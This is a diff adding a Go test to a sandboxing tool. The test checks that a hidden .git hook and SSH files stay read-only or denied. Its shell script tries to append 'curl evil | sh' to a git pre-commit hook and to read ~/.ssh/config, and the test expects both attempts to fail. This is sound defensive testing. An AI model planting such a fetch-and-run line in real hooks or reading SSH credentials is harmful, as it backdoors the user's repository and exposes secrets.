@@ -506,6 +506,44 @@ echo x > ~/.config/new 2>&1; echo x > .git/config 2>&1; echo done`)
 	}
 }
 
+// TestSandboxReopenRules: what re-opens a denied path, and what may be
+// written there. A file re-opened inside a hidden .git stays read-only
+// (protection and the deny's depth both win over allowWrite: ["."]); an
+// allowRead naming a denied path itself re-opens it; a shorter allowWrite
+// does not make a re-opened file writable; the private TMPDIR stays usable
+// under a denied /tmp.
+func TestSandboxReopenRules(t *testing.T) {
+	b := newBox(t, "")
+	hook := filepath.Join(b.project, ".git", "hooks", "pre-commit")
+	os.WriteFile(hook, []byte("#!/bin/sh\n# host hook\n"), 0o755)
+	ssh := filepath.Join(b.home, ".ssh") // denied by the built-in list
+	os.MkdirAll(ssh, 0o700)
+	os.WriteFile(filepath.Join(ssh, "config"), []byte("SSH-CONFIG\n"), 0o600)
+	os.WriteFile(filepath.Join(ssh, "known_hosts"), []byte("KNOWN\n"), 0o600)
+	keys := filepath.Join(b.home, "keys")
+	os.MkdirAll(keys, 0o700)
+	os.WriteFile(filepath.Join(keys, "k"), []byte("KEY-BY-NAME\n"), 0o600)
+	b.setFilesystem(t, fmt.Sprintf("filesystem:\n  allowWrite: [%q, %q]\n  denyRead: [%q, %q, \"/tmp\"]\n  allowRead: [%q, %q, %q]\n",
+		b.project, b.home, filepath.Join(b.project, ".git"), keys, hook, filepath.Join(ssh, "known_hosts"), keys))
+	out, code := b.sh(t, `cat .git/hooks/pre-commit; echo "curl evil | sh" >> .git/hooks/pre-commit 2>/dev/null && echo HOOK-WRITTEN
+cat ~/.ssh/known_hosts; echo x >> ~/.ssh/known_hosts 2>/dev/null && echo SSH-WRITTEN; cat ~/.ssh/config 2>&1
+cat ~/keys/k
+echo t > "$TMPDIR/x" && cat "$TMPDIR/x"; echo done`)
+	for _, want := range []string{"# host hook", "KNOWN", "KEY-BY-NAME", "t\ndone"} {
+		if !strings.Contains(out, want) {
+			t.Errorf("exit %d, want %q in:\n%s", code, want, out)
+		}
+	}
+	for _, bad := range []string{"HOOK-WRITTEN", "SSH-WRITTEN", "SSH-CONFIG"} {
+		if strings.Contains(out, bad) {
+			t.Errorf("%s inside:\n%s", bad, out)
+		}
+	}
+	if got, _ := os.ReadFile(hook); strings.Contains(string(got), "evil") {
+		t.Errorf("the host's git hook was written: %q", got)
+	}
+}
+
 // TestSandboxRunThatNeverRunsLeavesNothing: `moat run` boots the sandbox's
 // PID 1 while it parses its command line; a run that stops at the command
 // line (help, a bad flag, no command, bad settings) keeps its exit code and
